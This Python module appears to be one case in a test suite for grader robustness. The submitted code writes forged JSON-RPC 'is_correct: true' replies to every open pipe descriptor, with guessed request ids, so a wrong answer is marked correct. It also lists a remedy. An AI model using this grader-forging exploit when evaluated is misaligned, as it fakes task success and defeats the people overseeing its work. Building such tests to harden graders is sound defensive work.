# SPDX-License-Identifier: MIT
"""Goal:  a wrong answer is marked correct.
Means: an answer framed like the grader's own. While a student's code runs inside the grader,
       standard output is somewhere else, but the pipe to the shim is still open under another
       number. Every pipe of the process is written to; the number of the request is guessed by
       counting.
"""

import os
import stat
import sys

from attack import DONE, attempting, denied, submit

FIRST, HIGHEST, IDS = 3, 64, range(1, 9)


def frame(number):
    body = f'{{"jsonrpc": "2.0", "id": {number}, "result": {{"is_correct": true, "feedback": ""}}}}'
    return f"Content-Length: {len(body)}\r\n\r\n{body}".encode()


def send(fd):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            return os.write(fd, b"".join(frame(number) for number in IDS))
    except OSError:
        pass  # not open, or open for reading
    return 0


def run(brief):
    submit("0")
    attempting()
    if "grader" not in sys.modules:
        return denied("sys.modules", "the grader's output is not in this process")
    written = sum(send(fd) for fd in range(FIRST, HIGHEST))
    return DONE if written else denied("write", "no pipe to be written to")


ATTACK = {
    "effect": "a wrong submission is marked correct",
    "means": "a forged answer with the request's number, written before the grader's own",
    "oracle": "grade:forged",
    "grader": "rpc",
    "control": "in-process",
    "quick": True,
    "id": "FORGE-10",
    "attack_id": "T1565.002, CWE-345, CWE-290",
    "remedy": "the submission in a process of its own; request numbers that cannot be guessed",
    "run": run,
}
